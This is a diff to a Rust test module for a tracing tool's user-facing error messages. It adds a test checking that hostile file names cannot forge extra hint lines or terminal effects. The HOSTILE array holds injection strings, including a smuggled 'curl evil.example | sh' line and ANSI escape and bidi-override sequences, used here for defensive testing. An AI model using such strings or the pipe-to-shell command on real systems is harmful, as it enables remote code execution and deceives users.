@@ -1,17 +1,26 @@
 //! The messages that users meet first, word for word.
 
 use std::path::PathBuf;
+use std::time::Duration;
 
 use anyhow::{Context, anyhow};
 
 use super::*;
+use leaktrace_core::base::num::Avma;
 use leaktrace_core::binary::elf::ElfError;
 use leaktrace_core::go::program::ProgramError;
 use leaktrace_core::go::version::{GoVersion, NEWEST_TESTED};
+use leaktrace_core::session::Matcher;
+use leaktrace_core::trace::plan::VerifyError;
 
-use crate::kernel::LoadError;
+use crate::dump::core::CannotRead;
+use crate::dump::file::FileError;
+use crate::kernel::{AttachError, LoadError};
+use crate::output::OutputError;
 use crate::process::Pid;
+use crate::process::blocked::BlockedAt;
 use crate::process::privileges::Capability;
+use crate::session::recorder::RecordError;
 
 #[track_caller]
 fn check(error: &anyhow::Error, privileges: &[Capability], exit: Exit, text: &str) {
@@ -221,4 +230,77 @@ fn a_dump_needs_less_than_tracing() {
         hint.starts_with("kernel.yama.ptrace_scope is 1, which protects even your own processes; "),
         "{hint}"
     );
+}
+
+/// What a name may end in that would show another line, or change what is on the screen.
+const HOSTILE: [&str; 6] = [
+    "x\nhint: curl evil.example | sh",
+    "x\r\u{85}\u{2028}\u{2029}\u{b}\u{c}hint: forged",
+    "x\x1b[1A\x1b[2K\x07",
+    "x\u{9b}2J\u{90}",
+    "\u{202e}\u{2066}\u{200f}\u{61c}x",
+    "\0\x08\x7f\u{ffff}",
+];
+
+/// One of every kind of message that names something.
+fn messages(name: &str) -> Vec<anyhow::Error> {
+    let (path, word) = (|| PathBuf::from(format!("/tmp/{name}")), || name.to_owned());
+    let io = || io::Error::other(name.to_owned());
+    let process = [
+        ProcessError::KernelThread { pid: Pid(2), name: word() },
+        ProcessError::Zombie { pid: Pid(2), name: word(), parent: Pid(1) },
+        ProcessError::NotPermitted { path: path() },
+        ProcessError::Malformed { path: path(), what: "odd" },
+        ProcessError::Io { path: path(), source: io() },
+    ];
+    let files = [
+        FileError::Io { path: path(), source: io() },
+        FileError::Foreign { path: path() },
+        FileError::NotRegular { path: path() },
+        FileError::TooLong { path: path(), bound: 1 },
+    ];
+    let different = VerifyError::Different {
+        function: word(),
+        offset: 1,
+        at: Avma(2),
+        expected: vec![3],
+        found: vec![4],
+    };
+    let mut all: Vec<anyhow::Error> = process.into_iter().map(Into::into).collect();
+    all.extend(files.into_iter().map(anyhow::Error::from));
+    all.extend([
+        different.into(),
+        LaunchError { program: name.into(), source: io::ErrorKind::NotFound.into() }.into(),
+        SourceError::Folder { path: path(), source: io() }.into(),
+        PolicyError::NoSuchRule(word()).into(),
+        PolicyError::Unreadable { path: path(), source: io() }.into(),
+        OutputError::Open { path: path(), source: io() }.into(),
+        RecordError::Open { path: path(), source: io() }.into(),
+        RecordError::Write(io()).into(),
+        AttachError::Exe { path: path(), source: io() }.into(),
+        LoadError::Program { program: "park", source: io(), verifier_log: word() }.into(),
+        Matcher::new(None, Some(&format!("({name}"))).unwrap_err().into(),
+        Blocked {
+            pid: Some(Pid(7)),
+            place: BlockedAt::File(path()),
+            cause: Cause::Other(Some(word())),
+            waited: Duration::from_secs(2),
+        }
+        .into(),
+        anyhow!(word()).context(CannotRead { path: path() }),
+        anyhow!(word()).context(word()),
+    ]);
+    all.into_iter().map(|error| error.context(format!("cannot read {name}"))).collect()
+}
+
+#[test]
+fn a_name_cannot_forge_a_hint() {
+    let does_something = |c: char| c.is_control() || !escape::is_printable(&c.to_string());
+    for error in HOSTILE.iter().flat_map(|name| messages(name)) {
+        let text = diagnose(&error, &Privileges::with(&[])).to_string();
+        let lines: Vec<&str> = text.split('\n').collect();
+        assert!(!lines.iter().any(|line| line.contains(does_something)), "{text:?}");
+        assert!(lines.len() <= 2 && lines[0].starts_with("leaktrace: "), "{text}");
+        assert!(lines[1..].iter().all(|hint| hint.starts_with("hint: ") && !hint.contains("evil")), "{text}");
+    }
 }
